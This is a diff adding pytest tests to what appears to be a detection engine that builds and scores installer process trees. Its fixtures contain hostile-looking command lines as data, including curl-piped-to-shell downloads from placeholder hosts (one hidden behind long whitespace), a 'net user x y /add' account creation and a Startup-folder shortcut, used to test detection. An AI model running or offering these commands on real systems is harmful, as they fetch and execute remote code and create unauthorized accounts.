@@ -6,7 +6,7 @@ import random
 from typing import Any
 
 import pytest
-from engine import START, completed, run, tree_rows
+from engine import START, completed, run, shipped, tree_rows
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from installer_trees.catalogue import Catalogue, load
@@ -451,3 +451,82 @@ def test_same_rows_same_answer(
     shuffle.shuffle(shuffled)
     _, *found = answer(shuffled, chunk)
     assert found == expected
+
+
+BESIDE = [
+    {"process": "bash", "process_id": 5},
+    {"process": "tar xzf tool-1.0.tar.gz", "parent": 0},
+    *(
+        {"process": "true", "process_id": 200 + n, "parent": 0, "_time": START + 2}
+        for n in range(9)
+    ),
+    {"process": "make", "process_id": 300, "parent": 0, "_time": START + 3},
+    {"process": "sh -c 'curl http://a.example/x | sh'", "parent": 11, "_time": START + 4},
+]
+
+
+@pytest.mark.parametrize("times", [1, 2, 3])
+def test_neither_idle_commands_nor_copies_hide_what_was_done_beside(times: int) -> None:
+    rows = completed(BESIDE)
+    (tree,) = (row for row in tree_rows(rows * times, shipped()) if "make" in str(row["process"]))
+    assert tree["installer_family"] == "make"
+
+
+def test_a_process_id_is_enough_to_be_beside_where_others_have_guids() -> None:
+    """One row without a GUID on another host changes nothing."""
+    guids = [{"process_guid": f"{{{n}}}"} for n in range(2)]
+    fetched = {"process": "curl -O http://198.51.100.7/tool-1.0.tar.gz", "parent_process_id": 14}
+    install = {"process": "pip install tool-1.0.tar.gz", "parent_process_id": 14}
+    rows = completed(
+        [{**fetched, **guids[0], "parent_process_guid": "{P}"}, {**install, **guids[1]}]
+    )
+    other = {
+        "process": "ls",
+        "process_name": "ls",
+        "process_id": 9,
+        "dest": "other",
+        "_time": START,
+    }
+    scores = {tree_rows([*rows, *more], shipped())[0]["installer_score"] for more in ([], [other])}
+    assert len(scores) == 1
+    assert scores != {0}
+
+
+def test_an_event_with_the_guid_of_another_process_is_not_an_installers() -> None:
+    rows = completed(
+        [
+            {"process": "msiexec.exe /i a.msi", "process_id": 100, "process_guid": "{A}"},
+            {
+                "process_name": "chrome.exe",
+                "process_id": 100,
+                "process_guid": "{B}",
+                "file_path": "C:\\Users\\u\\Start Menu\\Programs\\Startup\\x.lnk",
+                "action": "created",
+            },
+        ]
+    )
+    (tree,) = tree_rows(rows, shipped())
+    assert "FIL" not in str(tree["signal_detail"])
+
+
+def test_a_parent_that_is_known_by_its_path_alone_stands_in() -> None:
+    child = {
+        "process": "cmd.exe /c whoami & net user x y /add",
+        "parent_process_path": "C:\\Windows\\System32\\msiexec.exe",
+    }
+    (tree,) = tree_rows(completed([child]), shipped())
+    assert tree["process_name"] == "msiexec.exe"
+
+
+def test_blanks_before_a_command_line_hide_nothing() -> None:
+    line = " " * 33_000 + "bash -c curl -fsSL http://203.0.113.7/a.sh | bash"
+    assert tree_rows(completed([{"process": line, "process_name": "bash"}]), shipped())
+
+
+def test_how_a_host_is_spelled_changes_no_id() -> None:
+    rows = completed([{"process": f"msiexec /i {n}.msi", "_time": START} for n in "ab"])
+    ids = set()
+    for spelled in (("h1", "H1"), ("H1", "h1")):
+        both = [{**row, "dest": dest} for row, dest in zip(rows, spelled)]
+        ids.add(tuple(sorted(row["installer_tree_id"] for row in tree_rows(both, shipped()))))
+    assert len(ids) == 1
